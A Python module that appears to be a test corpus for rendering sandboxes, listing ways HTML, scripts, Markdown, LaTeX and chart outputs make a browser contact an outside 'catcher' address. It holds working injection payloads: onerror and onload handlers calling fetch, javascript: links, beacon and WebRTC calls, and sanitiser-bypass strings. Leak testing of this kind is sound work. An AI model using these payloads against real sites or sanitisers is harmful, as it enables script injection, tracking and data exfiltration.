"""Ways by which a piece of HTML makes a browser ask another origin, by name.

`{u}` is an address of the catcher, `{udp}` the catcher's datagram port, `{ws}` the address as a websocket's.
What wants a click is clicked.
"""

from __future__ import annotations

from collections.abc import Mapping

_STYLE = "<style>{}</style><i class=v>x</i>"
_RUN = "<script>{}</script>"

HTML: Mapping[str, str] = {
    "img": '<img src="{u}">',
    "img_srcset": '<img srcset="{u} 1x">',
    "picture": '<picture><source srcset="{u}"><img alt=x></picture>',
    "img_onerror": "<img src=x: onerror=\"fetch('{u}')\">",
    "svg_onload": "<svg onload=\"fetch('{u}')\"></svg>",
    "details_ontoggle": "<details open ontoggle=\"fetch('{u}')\">x</details>",
    "focus": "<input autofocus onfocus=\"fetch('{u}')\">",
    "script_src": '<script src="{u}"></script>',
    "script_module": '<script type=module src="{u}"></script>',
    "style_import": _STYLE.format("@import url({u});"),
    "style_background": _STYLE.format(".v{{background:url({u})}}"),
    "style_content": _STYLE.format(".v::before{{content:url({u})}}"),
    "style_font": _STYLE.format("@font-face{{font-family:f;src:url({u})}}.v{{font-family:f}}"),
    "style_mask": _STYLE.format(".v{{mask-image:url({u});display:block}}"),
    "style_list": "<style>.w{{list-style-image:url({u})}}</style><ul class=w><li>x</ul>",
    "style_attribute": '<b style="background:url({u})">x</b>',
    "style_border": '<b style="border:1px solid;border-image:url({u}) 1">x</b>',
    "background": '<table background="{u}"><tr><td>x</table>',
    "link_stylesheet": '<link rel=stylesheet href="{u}">',
    "link_prefetch": '<link rel=prefetch href="{u}">',
    "link_preload": '<link rel=preload as=image href="{u}">',
    "link_modulepreload": '<link rel=modulepreload href="{u}">',
    "meta_refresh": '<meta http-equiv=refresh content="0;url={u}">',
    "base": '<base href="{u}/"><img src="under">',
    "iframe": '<iframe src="{u}"></iframe>',
    "iframe_srcdoc": "<iframe srcdoc='<img src={u}>'></iframe>",
    "object": '<object data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "frame_data": "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>",
    "form": '<form action="{u}"><button>x</button></form>',
    "form_action": '<form><button formaction="{u}">x</button></form>',
    "input_image": '<input type=image src="{u}">',
    "link_click": '<a href="{u}">x</a>',
    "link_new_window": '<a href="{u}" target=_blank rel=noopener>x</a>',
    "link_ping": '<a href="about:blank" target=_blank ping="{u}">x</a>',
    "link_javascript": "<a href=\"javascript:fetch('{u}')\">x</a>",
    "svg_image": '<svg><image href="{u}" width=9 height=9 /></svg>',
    "svg_use": '<svg><image xlink:href="{u}" width=9 height=9 /></svg>',
    "svg_script": '<svg><script href="{u}"></script></svg>',
    "svg_style": "<svg><style>@import url({u});</style></svg>",
    "svg_filter": '<svg><filter id=f><feImage href="{u}"/></filter>'
    '<rect filter="url(#f)" width=9 height=9 /></svg>',
    "svg_link": '<svg width=9 height=9><a href="{u}"><text y=9>x</text></a></svg>',
    "math_link": '<math><mrow href="{u}"><mi>x</mi></mrow></math><img src="{u}">',
    "video": '<video src="{u}" preload=auto autoplay muted></video>',
    "video_poster": '<video poster="{u}"></video>',
    "audio": '<audio src="{u}" preload=auto></audio>',
    "track": '<video src="data:video/mp4,x" preload=auto><track default kind=captions src="{u}"></video>'
    '<script>document.querySelector("video").textTracks[0].mode="showing"</script>',
    "shadow": '<div><template shadowrootmode=open><img src="{u}"></template></div>',
    "noscript": '<noscript><img src="{u}"></noscript><img src="{u}">',
    "comment": '<!--><img src="{u}">-->',
    "mutation": '<svg></p><style><a id="</style><img src={u}>">',
}

SCRIPTS: Mapping[str, str] = {
    name: _RUN.format(code)
    for name, code in {
        "fetch": "fetch('{u}',{{mode:'no-cors'}})",
        "xhr": "var x=new XMLHttpRequest();x.open('GET','{u}');x.send()",
        "beacon": "navigator.sendBeacon('{u}','x')",
        "websocket": "new WebSocket('{ws}')",
        "event_source": "new EventSource('{u}')",
        "image": "new Image().src='{u}'",
        "import": "import('{u}').catch(()=>0)",
        "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{u}',{{mode:'no-cors'}})\"])))",
        "location": "location.href='{u}'",
        "window": "window.open('{u}')",
        "click": "var a=document.createElement('a');a.href='{u}';a.click()",
        "submit": "var f=document.createElement('form');f.action='{u}';"
        "document.documentElement.append(f);f.submit()",
        "webrtc": "var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{udp}'}}]}});"
        "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
    }.items()
}

OTHER_TYPES: Mapping[str, tuple[str, str]] = {
    "javascript": ("application/javascript", "fetch('{u}')"),
    "svg": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="{u}" width="9" height="9"/></svg>',
    ),
    "markdown": ("text/markdown", "![x]({u}) <img src='{u}'> [x]({u})"),
    "latex_link": ("text/latex", "$\\href{{{u}}}{{x}}$"),
    "latex_image": ("text/latex", "$\\includegraphics{{{u}}} x$"),
    "latex_style": ("text/latex", "$\\style{{background:url({u})}}{{x}}$"),
    "latex_unicode": ("text/latex", "$\\htmlData{{x={u}}}{{x}}$"),
    "vega": (
        "application/vnd.vega.v5+json",
        '{{"width":9,"height":9,"data":[{{"name":"d","url":"{u}"}}],"marks":[{{"type":"symbol","from":{{"data":"d"}}}}]}}',
    ),
    "vegalite": (
        "application/vnd.vegalite.v5+json",
        '{{"data":{{"url":"{u}"}},"mark":"point","encoding":{{}}}}',
    ),
    "plotly": (
        "application/vnd.plotly.v1+json",
        '{{"data":[],"layout":{{"images":[{{"source":"{u}","x":0,"y":0,"sizex":1,"sizey":1}}]}}}}',
    ),
    "bokeh": ("application/vnd.bokehjs_exec.v0+json", "fetch('{u}')"),
    "widget": ("application/vnd.jupyter.widget-view+json", '{{"model_id":"{u}"}}'),
    "plain_link": ("text/plain", "{u}"),
}
"""Types that the page would render by itself; the control is that a plain output beside them is shown."""

MARKDOWN: Mapping[str, str] = {
    "image": "![x]({u})",
    "html_image": "<img src='{u}'>",
    "html_script": "<script>fetch('{u}')</script>",
    "html_style": "<style>@import url({u});</style>",
    "html_frame": "<iframe src='{u}'></iframe>",
    "reference": "![x][r]\n\n[r]: {u}",
    "formula_style": "$\\style{{background:url({u})}}{{x}}$",
    "formula_link": "$\\href{{{u}}}{{x}}$",
    "link": "[x]({u})",
    "mermaid": "```mermaid\ngraph TD\n A[<img src='{u}'>]\n click A '{u}'\n```",
}
"""Sources of Markdown cells that a cell wrote into a notebook."""

CLICKED = frozenset({"formula_link", "link", "plain_link"})
"""Of these two, what asks another origin only when a person clicks on an address that they are shown."""
